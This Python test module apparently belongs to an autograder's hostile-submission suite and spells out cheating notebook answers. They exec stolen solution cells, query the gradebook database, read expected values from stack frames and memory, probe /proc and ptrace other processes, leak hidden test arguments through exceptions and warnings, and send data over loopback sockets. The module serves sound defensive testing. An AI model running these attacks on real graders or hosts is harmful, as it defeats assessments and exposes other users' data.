"""Reading what is not meant for learners: solutions, hidden tests, expected values, other students, the network."""

from __future__ import annotations

from tests.tools.grading.hostile.handin import HandIn, Task, attack, hidden_calls

# runs the cell of an author's (or a friend's) notebook that has the exercise's id
THIEF = """
import json, pathlib
def steal(*places):
    for place in places:
        for path in sorted(pathlib.Path(place).glob("**/gather_scatter.ipynb")):
            try:
                cells = json.loads(path.read_text())["cells"]
            except Exception:
                continue
            for cell in cells:
                own = cell["metadata"].get("nbgrader", {})
                if own.get("solution") and "NotImplementedError" not in str(cell["source"]):
                    source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
                    if "steal(" not in source:
                        exec(source, globals())
"""


@attack()
def solutions_by_absolute_path(it: HandIn):
    """Takes the answers from the course's solutions, whose place it knows."""
    for task in it.rest:
        it.answer(task, f'{THIEF}\nsteal("@COURSE/solutions")')


@attack()
def solutions_by_relative_path(it: HandIn):
    """Looks for the solutions in the folders above."""
    for task in it.rest:
        it.answer(task, f'{THIEF}\nsteal("../../../solutions", "../../solutions", "../solutions", "solutions")')


@attack()
def answers_of_a_neighbour(it: HandIn):
    """Takes the answers of the students next to it, from submitted/ and autograded/."""
    for task in it.rest:
        it.answer(task, f'{THIEF}\nsteal("@COURSE/submitted", "@COURSE/autograded", "../../../submitted", "..")')


@attack()
def solutions_in_the_gradebook(it: HandIn):
    """Reads solutions and hidden tests from the gradebook's tables."""
    for task in it.rest:
        name = task.functions[0].name if task.functions else task.items[0]
        it.answer(
            task,
            f"""
import sqlite3, pathlib
for place in ("@COURSE/gradebook.db", "../../../gradebook.db", "gradebook.db"):
    if pathlib.Path(place).exists():
        for (source,) in sqlite3.connect(f"file:{{place}}?mode=ro", uri=True).execute("select source from source_cell"):
            if "BEGIN SOLUTION" in source and {name!r} in source:
                exec(source, globals())
""",
        )


@attack()
def package_on_disk(it: HandIn):
    """Searches the course's package and its surroundings on the disk for a course root with solutions."""
    for task in it.rest:
        it.answer(
            task,
            THIEF
            + """
import torchkata
above = pathlib.Path(torchkata.__file__).resolve().parents
steal(*(folder / "solutions" for folder in above), *(folder / "notebooks" for folder in above))
""",
        )


@attack()
def solutions_by_import(it: HandIn):
    """Asks the course's own tools for the chapter and its solutions."""
    it.answer_all(
        """
        try:
            from pathlib import Path
            from torchkata.tools.course import Chapter, course_root
            from torchkata.base.chapter import exercise_of
            from torchkata.tools.placing import Place
            for root in (Path("@COURSE"), course_root()):
                for cell in Chapter(Place(root), "03_gather_scatter").master.cells:
                    if exercise_of(cell) and "BEGIN SOLUTION" in cell.source:
                        exec(cell.source, globals())
        except Exception:
            pass
        """
    )
    for task in it.rest:  # the last lines would bind wrong functions again
        it.answer(task, it.cell(task.exercise.id)["source"].partition("def attacking")[0])


@attack()
def reference_of_the_check(it: HandIn):
    """Calls the check cell's own reference function, or takes expected values from the frames that called it."""
    it.answer_all(
        """
        import sys, __main__
        def expected(args):
            for name in ("reference", "by_hand", "expected", "plain_rows"):
                known = getattr(__main__, name, None)
                if callable(known):
                    return known(*args)
                if known is not None:
                    return known
            frame = sys._getframe()
            while frame:
                if "expected" in frame.f_locals:
                    return frame.f_locals["expected"]
                frame = frame.f_back
        """,
        "return expected(args)",
    )


@attack()
def source_of_the_check(it: HandIn):
    """Reads the running check cell's source, hidden tests too, from IPython's history and from linecache."""
    it.answer_all(
        r"""
        import ast, linecache, re, __main__
        def sources():
            yield from reversed(getattr(__main__, "In", []))
            for entry in list(linecache.cache.values()):
                if len(entry) > 2:
                    yield "".join(entry[2])
        def first_expected():
            for source in sources():
                if "HIDDEN TESTS" in source and "with check" in source and "attacking" not in source:
                    for text in re.findall(r"returns\((torch\.tensor\(.*?\]\))", source):
                        return eval(text)
        """,
        "return first_expected()",
    )


@attack()
def expected_values_in_memory(it: HandIn):
    """Searches all objects of its process for tensors and functions that could be expected results."""
    it.answer_all(
        """
        import gc, types
        def candidates(args):
            shapes = [arg.shape for arg in args if isinstance(arg, torch.Tensor)]
            for value in gc.get_objects():
                if type(value) is types.FunctionType and value.__name__ in ("reference", "by_hand"):
                    return value(*args)
                if type(value) is torch.Tensor and value.shape in shapes and not any(value is arg for arg in args):
                    return value
        """,
        "return candidates(args)",
    )


@attack(nbgrader_safe=False)
def memory_of_other_processes(it: HandIn):
    """Reads memory, files and arguments of all processes that it can see, and attaches to its parents."""
    it.answer_one(
        """
        import ctypes, glob, os
        found = []
        def search():
            for folder in glob.glob("/proc/[0-9]*"):
                number = int(folder.rpartition("/")[2])
                if number == os.getpid():
                    continue
                for name in ("mem", "environ", "cmdline", "maps", "fd/3", "root/etc/passwd", "cwd/gradebook.db"):
                    try:
                        with open(f"{folder}/{name}", "rb") as file:
                            found.append((folder, name, file.read(100)))
                    except OSError:
                        pass
                if ctypes.CDLL(None).ptrace(16, number, 0, 0) == 0:
                    found.append((folder, "attached"))
                    ctypes.CDLL(None).ptrace(17, number, 0, 0)
        """,
        'search()\nif found:\n    raise ValueError("@TOKEN"[::-1] + str(found[:3]))',
    )


# how an answer that is right in all visible tests may carry the arguments of hidden ones out
WAYS = {
    "message": "raise ValueError(text)",
    "exception's class": "raise type(text, (ValueError,), {})()",
    "result's class": "return type(text, (), {})()",
    "key": "return {text: text}",
    "print": "print(text)\n    return None",
    "source line": "raise ValueError",
    "warning": "__import__('warnings').warn(text)\n    return None",
    "cause": "raise ValueError from KeyError(text)",
    "function's name": "failing.__code__ = failing.__code__.replace(co_name=text)\n    failing()",
}


@attack()
def hidden_data_in_feedback(it: HandIn):
    """Is right in all visible tests, and carries the arguments of hidden ones out into its feedback in many ways."""
    ways = list(WAYS.values())
    for number, task in enumerate(task for task in it.tasks if task.functions):
        it.earned[task.exercise.id] = hidden_calls(task)[1]
        it.answer(task, _right_until_hidden(task, ways[number % len(ways)]))


@attack()
def hidden_data_in_feedback_otherwise(it: HandIn):
    """The same in other ways."""
    ways = list(WAYS.values())[::-1]
    for number, task in enumerate(task for task in it.tasks if task.functions):
        it.earned[task.exercise.id] = hidden_calls(task)[1]
        it.answer(task, _right_until_hidden(task, ways[number % len(ways)]))


def _right_until_hidden(task: Task, way: str) -> str:
    name = task.functions[0].name
    return f"""{task.solution}
honest, calls = {name}, []
def failing():
    raise ValueError
def carry_out(args):
    import linecache
    text = "@TOKEN"[::-1] + repr([getattr(arg, "tolist", lambda arg=arg: arg)() for arg in args])[:100]
    for number in range(50):
        linecache.cache[f"<cell {{number}}>"] = (len(text), None, [text] * 100, f"<cell {{number}}>")
    {way}
def {name}(*args, **kwargs):
    calls.append(1)
    return honest(*args, **kwargs) if len(calls) not in {hidden_calls(task)[0]} else carry_out(args)
"""


@attack()
def network(it: HandIn):
    """Sends what it sees to a server on the loopback interface, by TCP, UDP and an abstract socket."""
    it.answer_all(
        """
        import socket
        def send(text):
            for family, kind, place in (
                (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT)),
                (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT)),
                (socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT)),
                (socket.AF_UNIX, socket.SOCK_STREAM, "\\0@TOKEN-server"),
            ):
                try:
                    with socket.socket(family, kind) as sock:
                        sock.settimeout(0.2)
                        sock.connect(place)
                        sock.sendall(text.encode())
                except OSError:
                    pass
        send("a cell is run")
        """,
        "send(repr(args))",
    )


@attack(nbgrader_safe=False)
def network_server(it: HandIn):
    """Leaves a server behind that waits for others, on a port, on an abstract socket and on a path."""
    it.answer_one(
        """
        import os, socket
        def wait():
            if os.fork():
                return
            os.setsid()
            for family, place in ((socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_UNIX, "\\0@TOKEN-left"),
                                  (socket.AF_UNIX, "/tmp/@TOKEN-left")):
                sock = socket.socket(family)
                sock.bind(place)
                sock.listen()
                globals().setdefault("open_sockets", []).append(sock)
            __import__("time").sleep(60)
            os._exit(0)
        """,
        "wait()",
    )
